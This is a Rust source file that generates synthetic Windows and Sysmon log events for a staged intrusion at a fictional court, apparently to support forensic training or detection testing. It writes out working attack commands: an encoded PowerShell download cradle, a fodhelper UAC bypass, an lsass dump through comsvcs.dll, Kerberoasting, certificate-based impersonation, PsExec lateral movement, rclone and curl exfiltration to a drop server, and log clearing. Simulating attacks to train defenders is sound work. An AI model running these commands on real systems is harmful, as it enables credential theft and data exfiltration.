//! What did the intruder do, and what did each act leave behind?
//!
//! Act by act, with the traces that Windows writes for it; the table of acts and times is in
//! [`super`]. What the intruder did through the VPN and in the document system is in
//! `other.rs`. The acts are those of published incidents; the programs exist in name only.

use super::cast::{
    ADM_KETTERMOLE, ADM_LINDQVAR, COMMAND_SERVER, DC01, DROP_SERVER, HADWIN, HR_WS02, LEGAL_FS01, REG_WS07,
    SVC_BACKUP, SVC_DMS, SVC_SQLREG, VANTORP,
};
use super::clock::{self, MINUTE, SECOND, at};
use super::dice::Dice;
use super::scene::{Scene, Station};
use super::security::{self, Presence, Start};
use super::servers::{ADMIN, CASES, DRIVE_C, GET_CHANGES, GET_CHANGES_ALL, IPC, witness_files};
use super::sysmon::{self, Integrity, Owner, Process};
use super::system::{self, Console};
use super::work::{self, Desktop};

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const DEN: &str = "C:\\ProgramData\\OfficeSync";
const IMPLANT: &str = "C:\\ProgramData\\OfficeSync\\syncsvc.exe";
const SERVICE_BINARY: &str = "%SystemRoot%\\PSEXESVC.exe";

/// All acts, in their order.
pub(super) fn happen(scene: &mut Scene, registry: &mut Station, hr: &mut Station, desktop: &Desktop) {
    let implant = phish(scene, registry, desktop);
    beacon(scene, registry, &implant);
    discover(scene, registry, &implant);
    let elevated = bypass_uac(scene, registry, &implant);
    dump_credentials(scene, registry, &elevated);
    persist(scene, registry, &elevated, desktop);
    kerberoast(scene, registry, &implant);
    forge_identity(scene, registry, &implant);
    let moved = move_to_file_server(scene, registry, &elevated);
    collect_witness_files(scene, &moved);
    replicate_directory(scene, registry, &elevated);
    visit_hr(scene, hr);
    exfiltrate(scene, registry, &elevated);
    clear_logs(scene, registry, &elevated, desktop);
}

// ---- first day ------------------------------------------------------------------------------

/// The document from the mail starts PowerShell, which fetches the implant.
fn phish(scene: &mut Scene, station: &mut Station, desktop: &Desktop) -> Process {
    let folder =
        "C:\\Users\\i.vantorp\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\R7K2Q9XB";
    let document = format!("{folder}\\Hearing_Schedule_2026-09.docm");
    let host = station.host;
    scene.add(host, sysmon::file_created(at(14, "07:11:52.310"), &desktop.outlook, &document));
    let origin = "about:internet";
    scene
        .add(host, sysmon::marked_as_downloaded(at(14, "07:11:52.330"), &desktop.outlook, &document, origin));
    // Shown as "Witness_list_exe.pdf" where the right-to-left override is obeyed.
    let disguised = format!("{folder}\\Witness_list_\u{202E}fdp.exe");
    scene.add(host, sysmon::file_created(at(14, "07:11:53.120"), &desktop.outlook, &disguised));
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let command = format!("\"{word}\" /n \"{document}\" /o \"\"");
    let start = at(14, "07:12:08.114");
    let word = station.start(scene, start, &desktop.outlook, (word, &command), desktop.owner);

    let fetch = format!(
        "$p=\"$env:ProgramData\\OfficeSync\";New-Item -ItemType Directory -Force $p|Out-Null;(New-Object Net.WebClient).DownloadFile('https://{}/sync.dat',\"$p\\syncsvc.exe\");Start-Process \"$p\\syncsvc.exe\"",
        COMMAND_SERVER.0
    );
    let command = format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {}", encoded(&fetch));
    let start = at(14, "07:12:41.250");
    let shell = station.start(scene, start, &word, (POWERSHELL, &command), desktop.owner);
    let console = Console { pid: shell.pid, account: VANTORP, activity: work::activity(start) };
    scene.add_all(host, console.start(start + 420));
    scene.add(host, console.script_block(start + 900, &fetch, "", true));
    fetched(scene, station, &shell, start + 2230);
    let start = at(14, "07:13:05.700");
    station.start(scene, start, &shell, (IMPLANT, &format!("\"{IMPLANT}\"")), desktop.owner)
}

fn fetched(scene: &mut Scene, station: &Station, shell: &Process, when: i64) {
    let host = station.host;
    call_home(scene, station, shell, when, true);
    scene.add(host, sysmon::file_created(when + 8550, shell, IMPLANT));
}

/// A connection to the command server, with the question for its name if it is not known yet.
fn call_home(scene: &mut Scene, station: &Station, process: &Process, when: i64, ask: bool) {
    let (name, address) = COMMAND_SERVER;
    let (here, here_address) = station.endpoint();
    if ask {
        scene.add(station.host, sysmon::name_queried(when, process, name, address));
    }
    let connection = sysmon::connected(when + 130, process, (&here, here_address), (name, address, 443));
    scene.add(station.host, connection);
}

/// Every three quarters of an hour or so until the tools are deleted.
fn beacon(scene: &mut Scene, station: &Station, implant: &Process) {
    let mut dice = Dice::named("beacon");
    let mut now = at(14, "07:13:09.400");
    while now < at(16, "02:00:00") {
        let ask = dice.chance(30);
        call_home(scene, station, implant, now, ask);
        now += 47 * MINUTE + dice.between(-240, 240) * SECOND + dice.between(0, 999);
    }
}

/// `cmd.exe /C …` and the program in it.
fn run(
    scene: &mut Scene,
    station: &mut Station,
    when: i64,
    parent: &Process,
    (image, command): (&str, &str),
) -> Process {
    let shell = format!("{CMD} /C {command}");
    let cmd = station.start(scene, when, parent, (CMD, &shell), parent.owner);
    station.start(scene, when + 60, &cmd, (image, command), parent.owner)
}

fn discover(scene: &mut Scene, station: &mut Station, implant: &Process) {
    let whoami = ("C:\\Windows\\System32\\whoami.exe", "whoami  /all");
    run(scene, station, at(14, "07:21:05.080"), implant, whoami);
    let nltest = ("C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts");
    run(scene, station, at(14, "07:21:44.510"), implant, nltest);
    let net = ("C:\\Windows\\System32\\net.exe", "net  group \"Domain Admins\" /domain");
    let net = run(scene, station, at(14, "07:22:30.230"), implant, net);
    let net1 =
        ("C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain");
    station.start(scene, at(14, "07:22:30.350"), &net, net1, net.owner);
}

/// A handler of the user's own registry makes an automatically elevated program start the
/// implant. The clerk is a local administrator, as clerks should not be.
fn bypass_uac(scene: &mut Scene, station: &mut Station, implant: &Process) -> Process {
    let when = at(14, "08:02:11.640");
    let key = format!("HKU\\{}_Classes\\ms-settings\\shell\\open\\command", VANTORP.sid());
    let host = station.host;
    scene.add(host, sysmon::value_set(when, implant, &format!("{key}\\(Default)"), IMPLANT));
    scene.add(host, sysmon::value_set(when + 12, implant, &format!("{key}\\DelegateExecute"), "(Empty)"));
    let elevated = Owner { logon_id: 0x1d_e5c1, integrity: Integrity::High, ..implant.owner };
    let helper = "C:\\Windows\\System32\\fodhelper.exe";
    let helper = station.start(scene, when + 900, implant, (helper, &format!("\"{helper}\"")), elevated);
    station.start(scene, when + 1480, &helper, (IMPLANT, &format!("\"{IMPLANT}\"")), elevated)
}

/// A dump of lsass by a library that Windows brings along, then a look into lsass itself.
fn dump_credentials(scene: &mut Scene, station: &mut Station, implant: &Process) {
    let when = at(14, "08:05:17.030");
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    let dump = format!("{DEN}\\l.dmp");
    let command = format!(
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
        station.lsass.pid
    );
    let rundll = station.start(scene, when, implant, (rundll, &command), implant.owner);
    let host = station.host;
    scene.add(host, sysmon::file_created(when + 80, &rundll, &dump));
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ce1|C:\\Windows\\SYSTEM32\\dbgcore.DLL+11b4c|C:\\Windows\\System32\\comsvcs.dll+24a33|C:\\Windows\\system32\\rundll32.exe+3a2f|C:\\Windows\\system32\\rundll32.exe+6299|C:\\Windows\\System32\\KERNEL32.DLL+17344|C:\\Windows\\SYSTEM32\\ntdll.dll+526b1";
    scene.add(host, sysmon::accessed(when + 95, &rundll, &station.lsass, 0x1F_FFFF, trace));
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001C7A3F60E2B)";
    scene.add(host, sysmon::accessed(when + 45 * SECOND, implant, &station.lsass, 0x1410, trace));
}

/// A scheduled task and a run key, so that the implant comes back after a restart.
fn persist(scene: &mut Scene, station: &mut Station, implant: &Process, desktop: &Desktop) {
    let when = at(14, "08:31:02.470");
    let name = "\\Microsoft\\Office\\OfficeSyncTask";
    let command = format!("schtasks  /create /tn \"{name}\" /tr \"{IMPLANT}\" /sc onlogon /rl highest /f");
    run(scene, station, when, implant, ("C:\\Windows\\System32\\schtasks.exe", &command));
    let host = station.host;
    let file = format!("C:\\Windows\\System32\\Tasks{name}");
    scene.add(host, sysmon::file_created(when + 210, &station.scheduler, &file));
    let content = task(name, when, "<LogonTrigger><Enabled>true</Enabled></LogonTrigger>");
    scene.add(host, security::task_created(when + 220, &elevated_presence(desktop, implant), name, &content));
    let key =
        format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OfficeSync", VANTORP.sid());
    scene.add(host, sysmon::value_set(when + 38 * SECOND, implant, &key, IMPLANT));
}

/// The clerk's presence under its elevated token.
fn elevated_presence(desktop: &Desktop, implant: &Process) -> Presence {
    Presence { logon_id: implant.owner.logon_id, elevated: true, ..desktop.presence.clone() }
}

fn task(name: &str, when: i64, trigger: &str) -> String {
    [
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>".to_owned(),
        "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">".to_owned(),
        format!("  <RegistrationInfo><Date>{}</Date><URI>{name}</URI></RegistrationInfo>", clock::local(when)),
        format!("  <Triggers>{trigger}</Triggers>"),
        "  <Principals><Principal id=\"Author\"><RunLevel>HighestAvailable</RunLevel></Principal></Principals>".to_owned(),
        "  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>".to_owned(),
        format!("  <Actions Context=\"Author\"><Exec><Command>{IMPLANT}</Command></Exec></Actions>"),
        "</Task>".to_owned(),
    ]
    .join("\r\n")
}

// ---- second day -----------------------------------------------------------------------------

/// Tickets for service accounts in a cipher that can be guessed offline.
fn kerberoast(scene: &mut Scene, station: &mut Station, implant: &Process) {
    let when = at(15, "00:13:57.900");
    let script = "Add-Type -AssemblyName System.IdentityModel; setspn.exe -T court.example -Q */* | Select-String '^CN' -Context 0,1 | ForEach-Object { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Context.PostContext[0].Trim() }";
    let command = format!("powershell.exe -nop -w hidden -c \"{}\"", script.replace('"', "'"));
    let shell = station.start(scene, when, implant, (POWERSHELL, &command), implant.owner);
    let console = Console { pid: shell.pid, account: VANTORP, activity: work::activity(when) };
    scene.add_all(station.host, console.start(when + 380));
    scene.add(station.host, console.script_block(when + 800, script, "", true));
    for (index, service) in (0..).zip([SVC_DMS, SVC_SQLREG, SVC_BACKUP]) {
        let ticket =
            security::service_ticket(when + 7400 + index * 610, VANTORP, service, REG_WS07.address, 0x17);
        scene.add(DC01, ticket);
    }
}

/// The clerk asks for a certificate and names the domain administrator in it.
fn forge_identity(scene: &mut Scene, station: &mut Station, implant: &Process) {
    let when = at(15, "00:36:09.200");
    let attributes = "CertificateTemplate:CourtUser\nSAN:upn=adm-rlindqvar@court.example";
    let command = format!(
        "certreq  -submit -attrib \"{}\" -config DC01.court.example\\COURT-DC01-CA {DEN}\\u.req {DEN}\\u.cer",
        attributes.replace('\n', "\\n")
    );
    run(scene, station, when, implant, ("C:\\Windows\\System32\\certreq.exe", &command));
    let logged = format!("{attributes}\nccm:REG-WS07.court.example");
    let subject = "CN=Ilse Vantorp, OU=Registry, DC=court, DC=example";
    scene.add_all(DC01, security::certificate(when + 1100, 4109, VANTORP, &logged, subject));
    let certificate = [
        "COURT-DC01-CA",
        "5E000010177B43C0D92F6A1D8400000000100D",
        "A1C4E90B7D52F8836B0E4D91C7A25F3E8890BD46",
    ];
    let ticket = at(15, "00:38:02.750");
    scene.add(DC01, security::ticket_granted(ticket, ADM_LINDQVAR, REG_WS07.address, Some(certificate)));
}

/// A service on the file server runs commands for the stolen administrator. Returns the
/// presence on the file server that everything there hangs on.
fn move_to_file_server(scene: &mut Scene, station: &mut Station, implant: &Process) -> Presence {
    let when = at(15, "01:05:01.330");
    let tool = format!("{DEN}\\pse64.exe");
    let command = format!("{tool} \\\\LEGAL-FS01 -accepteula -u COURT\\adm-jkettermole -p ******** cmd.exe");
    let process = station.start(scene, when, implant, (&tool, &command), implant.owner);
    let (here, address) = station.endpoint();
    let server = ("LEGAL-FS01.court.example", LEGAL_FS01.address, 445);
    scene.add(station.host, sysmon::connected(when + 310, &process, (&here, address), server));
    scene.add(DC01, security::ntlm_checked(when + 760, ADM_KETTERMOLE.name, REG_WS07.name, 0));

    let who = Presence {
        ntlm: true,
        workstation: REG_WS07.name.to_owned(),
        ..Presence::network(ADM_KETTERMOLE, 0x5c_07e4, REG_WS07.address, 50_118)
    };
    scene.add(LEGAL_FS01, security::logon(when + 780, LEGAL_FS01, &who));
    scene.add(LEGAL_FS01, security::special(when + 781, &who));
    scene.add(LEGAL_FS01, security::share(when + 900, &who, ADMIN.0, ADMIN.1));
    scene.add(LEGAL_FS01, security::share_file(when + 930, &who, ADMIN, "PSEXESVC.exe", 0x12_0196));
    scene.add(LEGAL_FS01, security::share(when + 1090, &who, IPC.0, IPC.1));
    scene.add(LEGAL_FS01, security::share_file(when + 1110, &who, IPC, "svcctl", 0x12_019F));
    scene.add(LEGAL_FS01, security::service_installed(when + 1240, &who, "PSEXESVC", SERVICE_BINARY));
    let service = system::service_installed(when + 1241, ADM_KETTERMOLE, "PSEXESVC", SERVICE_BINARY);
    scene.add(LEGAL_FS01, service);
    for (index, stream) in (0..).zip(["stdin", "stdout", "stderr"]) {
        let pipe = format!("PSEXESVC-REG-WS07-{}-{stream}", process.pid);
        scene.add(LEGAL_FS01, security::share_file(when + 1900 + index * 20, &who, IPC, &pipe, 0x12_019F));
    }
    service_shell(scene, &who, when + 1500);
    who
}

const SERVICE_SHELL: u32 = 6228;

/// The service on the file server, and the shell that it opens.
fn service_shell(scene: &mut Scene, who: &Presence, when: i64) {
    let service = Start {
        pid: 6044,
        image: "C:\\Windows\\PSEXESVC.exe",
        command: "C:\\Windows\\PSEXESVC.exe",
        parent_pid: 712,
        parent_image: "C:\\Windows\\System32\\services.exe",
        label: 0x4000,
    };
    scene.add(LEGAL_FS01, security::process_created(when, LEGAL_FS01.account, 0x3e7, &service));
    let shell = Start {
        pid: SERVICE_SHELL,
        image: CMD,
        command: "\"cmd.exe\"",
        parent_pid: 6044,
        parent_image: "C:\\Windows\\PSEXESVC.exe",
        label: 0x3000,
    };
    scene.add(LEGAL_FS01, security::process_created(when + 700, who.account, who.logon_id, &shell));
}

/// A command in that shell; the process as an audit names it.
fn on_file_server(scene: &mut Scene, who: &Presence, when: i64, pid: u32, image: &str, command: &str) {
    let start = Start { pid, image, command, parent_pid: SERVICE_SHELL, parent_image: CMD, label: 0x3000 };
    scene.add(LEGAL_FS01, security::process_created(when, who.account, who.logon_id, &start));
}

/// All witness files into an encrypted archive in parts.
fn collect_witness_files(scene: &mut Scene, who: &Presence) {
    let listing = at(15, "01:12:20.600");
    let find = "C:\\Windows\\System32\\findstr.exe";
    on_file_server(scene, who, listing, 6512, find, "findstr  /s /m /i \"protected witness\" D:\\Cases\\*.*");
    let when = at(15, "01:29:30.150");
    let rar = "C:\\ProgramData\\rar.exe";
    let command = "rar.exe  a -hpKs7vela29 -v50m C:\\ProgramData\\wp.rar D:\\Cases\\Witness-Protection\\*";
    scene.add(
        LEGAL_FS01,
        security::share_file(when - 95 * SECOND, who, DRIVE_C, "ProgramData\\rar.exe", 0x12_0196),
    );
    on_file_server(scene, who, when, 6780, rar, command);
    for (index, file) in (0..).zip(witness_files()) {
        let path = format!("{}\\{file}", CASES.1.trim_start_matches("\\??\\"));
        let read =
            security::file_used(when + 400 + index * 8130, who, &path, security::access(0x1), (6780, rar));
        scene.add(LEGAL_FS01, read);
    }
    fetch_archive(scene, who);
}

/// The parts of the archive away over the network, and the traces deleted.
fn fetch_archive(scene: &mut Scene, who: &Presence) {
    let fetch = at(15, "01:41:08.020");
    scene.add(LEGAL_FS01, security::share(fetch, who, DRIVE_C.0, DRIVE_C.1));
    for part in 1..=3 {
        let target = format!("ProgramData\\wp.part{part}.rar");
        let when = fetch + i64::from(part) * 21 * SECOND;
        scene.add(LEGAL_FS01, security::share_file(when, who, DRIVE_C, &target, 0x12_0089));
    }
    let clean = at(15, "01:46:40.310");
    on_file_server(
        scene,
        who,
        clean,
        6904,
        CMD,
        "cmd.exe  /c del /q C:\\ProgramData\\wp.part*.rar C:\\ProgramData\\rar.exe",
    );
    scene.add(LEGAL_FS01, security::logoff(clean + 30 * SECOND, who));
}

/// The forged administrator asks the domain controller for everyone's secrets.
fn replicate_directory(scene: &mut Scene, station: &Station, implant: &Process) {
    let when = at(15, "01:55:18.260");
    let (here, address) = station.endpoint();
    for (index, port) in (0..).zip([135, 49_667]) {
        let server = ("DC01.court.example", DC01.address, port);
        let connection = sysmon::connected(when - 900 + index * 200, implant, (&here, address), server);
        scene.add(station.host, connection);
    }
    let who = Presence::network(ADM_LINDQVAR, 0x8d_41f0, REG_WS07.address, 50_204);
    let ticket = security::service_ticket(when - 60, ADM_LINDQVAR, DC01.account, REG_WS07.address, 0x12);
    scene.add(DC01, ticket);
    scene.add(DC01, security::logon(when, DC01, &who));
    scene.add(DC01, security::special(when + 1, &who));
    scene.add(DC01, security::replicated(when + 1840, &who, GET_CHANGES));
    scene.add(DC01, security::replicated(when + 1846, &who, GET_CHANGES_ALL));
    scene.add(DC01, security::replicated(when + 4310, &who, GET_CHANGES));
    scene.add(DC01, security::logoff(when + 48 * SECOND, &who));
}

/// A second foothold: commands through WMI on the personnel workstation.
fn visit_hr(scene: &mut Scene, station: &mut Station) {
    let when = at(15, "02:22:14.090");
    let who = Presence::network(ADM_LINDQVAR, 0x9a_2b60, REG_WS07.address, 50_339);
    let ticket = security::service_ticket(when - 90, ADM_LINDQVAR, HR_WS02.account, REG_WS07.address, 0x12);
    scene.add(DC01, ticket);
    scene.add(HR_WS02, security::logon(when, HR_WS02, &who));
    scene.add(HR_WS02, security::special(when + 1, &who));
    let owner = Owner {
        account: ADM_LINDQVAR,
        logon_id: who.logon_id,
        since: when,
        session: 0,
        integrity: Integrity::High,
    };
    let wmi = station.wmi.clone();
    let list = "vssadmin  list shadows";
    hidden_command(scene, station, (when + 4200, &wmi), ("C:\\Windows\\System32\\vssadmin.exe", list), owner);
    let search = "powershell  -nop -c \"Get-ChildItem C:\\HR\\Personnel -Recurse -Include *relocation*,*contract* | Copy-Item -Destination C:\\ProgramData\\OfficeSync\"";
    hidden_command(scene, station, (when + 3 * MINUTE, &wmi), (POWERSHELL, search), owner);
    let name = "\\Microsoft\\Windows\\Maintenance\\SyncCheck";
    let create = format!("schtasks  /create /tn \"{name}\" /tr {IMPLANT} /sc daily /st 03:00 /ru SYSTEM /f");
    let created = when + 5 * MINUTE;
    hidden_command(scene, station, (created, &wmi), ("C:\\Windows\\System32\\schtasks.exe", &create), owner);
    let trigger = "<CalendarTrigger><StartBoundary>2026-09-15T03:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>";
    scene.add(HR_WS02, security::task_created(created + 320, &who, name, &task(name, created, trigger)));
    let leave = when + 7 * MINUTE;
    let personnel = format!("C:\\Users\\{}\\Documents\\contracts.xlsx", HADWIN.name);
    scene.add(HR_WS02, sysmon::file_created(leave - MINUTE, &wmi, &personnel));
    scene.add(HR_WS02, security::logoff(leave, &who));
}

/// A command as remote-execution tools phrase it: output into a file on the administrative share.
fn hidden_command(
    scene: &mut Scene,
    station: &mut Station,
    (when, parent): (i64, &Process),
    (image, command): (&str, &str),
    owner: Owner,
) {
    let line = format!("cmd.exe /Q /c {command} 1> \\\\127.0.0.1\\ADMIN$\\__1789438934.09 2>&1");
    let cmd = station.start(scene, when, parent, (CMD, &line), owner);
    station.start(scene, when + 55, &cmd, (image, command), owner);
}

// ---- third day ------------------------------------------------------------------------------

/// Everything into one more archive and out of the house, twice.
fn exfiltrate(scene: &mut Scene, station: &mut Station, implant: &Process) {
    let pack = at(16, "00:48:12.880");
    let zip = format!("{DEN}\\7z.exe");
    let command = format!(
        "{zip} a -pKs7vela29 -mhe=on {DEN}\\d1.7z {DEN}\\wp.part1.rar {DEN}\\wp.part2.rar {DEN}\\wp.part3.rar {DEN}\\l.dmp"
    );
    let process = station.start(scene, pack, implant, (&zip, &command), implant.owner);
    scene.add(station.host, sysmon::file_created(pack + 240, &process, &format!("{DEN}\\d1.7z")));

    let sync = at(16, "01:10:33.400");
    let rclone = format!("{DEN}\\rclone.exe");
    let command = format!(
        "{rclone} copy {DEN}\\d1.7z parcel:in/9f31 --config {DEN}\\r.conf --multi-thread-streams 4 --no-check-certificate"
    );
    let process = station.start(scene, sync, implant, (&rclone, &command), implant.owner);
    send(scene, station, &process, sync + 1200);

    let upload = at(16, "01:31:07.150");
    let curl = "C:\\Windows\\System32\\curl.exe";
    let command = format!("curl.exe -k -T {DEN}\\d1.7z https://{}/in/9f31", DROP_SERVER.0);
    let process = station.start(scene, upload, implant, (curl, &command), implant.owner);
    send(scene, station, &process, upload + 640);
}

fn send(scene: &mut Scene, station: &Station, process: &Process, when: i64) {
    let (name, address) = DROP_SERVER;
    let (here, here_address) = station.endpoint();
    scene.add(station.host, sysmon::name_queried(when, process, name, address));
    let connection = sysmon::connected(when + 90, process, (&here, here_address), (name, address, 443));
    scene.add(station.host, connection);
}

/// When the clerk's workstation forgot what its Security and System logs had said.
pub(super) const SECURITY_CLEARED: &str = "01:52:14.620";
pub(super) const SYSTEM_CLEARED: &str = "01:52:16.970";

fn clear_logs(scene: &mut Scene, station: &mut Station, implant: &Process, desktop: &Desktop) {
    let wevtutil = "C:\\Windows\\System32\\wevtutil.exe";
    let who = elevated_presence(desktop, implant);
    let (security_at, system_at) = (at(16, SECURITY_CLEARED), at(16, SYSTEM_CLEARED));
    run(scene, station, security_at - 110, implant, (wevtutil, "wevtutil  cl Security"));
    scene.add(station.host, security::log_cleared(security_at, &who));
    run(scene, station, system_at - 110, implant, (wevtutil, "wevtutil  cl System"));
    scene.add(station.host, system::log_cleared(system_at, VANTORP, "System"));
    let clean = at(16, "02:04:40.200");
    let command =
        format!("{CMD} /C del /f /q {DEN}\\l.dmp {DEN}\\wp.part*.rar {DEN}\\d1.7z {DEN}\\rclone.exe");
    let cmd = station.start(scene, clean, implant, (CMD, &command), implant.owner);
    for (index, file) in
        (1..).zip(["l.dmp", "wp.part1.rar", "wp.part2.rar", "wp.part3.rar", "d1.7z", "rclone.exe"])
    {
        let deleted = sysmon::file_deleted(clean + index * 70, &cmd, &format!("{DEN}\\{file}"));
        scene.add(station.host, deleted);
    }
}

/// Base64 of the UTF-16 text, as PowerShell's `-EncodedCommand` wants it (RFC 4648, 4).
fn encoded(script: &str) -> String {
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let word =
            group.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        let digit = |index: usize| char::from(alphabet[(word >> (18 - 6 * index)) as usize & 63]);
        out.extend((0..4).map(|index| if index <= group.len() { digit(index) } else { '=' }));
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn commands_are_encoded_as_powershell_wants_them() {
        assert_eq!(super::encoded("whoami"), "dwBoAG8AYQBtAGkA");
        assert_eq!(super::encoded("dir"), "ZABpAHIA");
        assert_eq!(super::encoded("a"), "YQA=");
        assert_eq!(super::encoded("ab"), "YQBiAA==");
    }
}
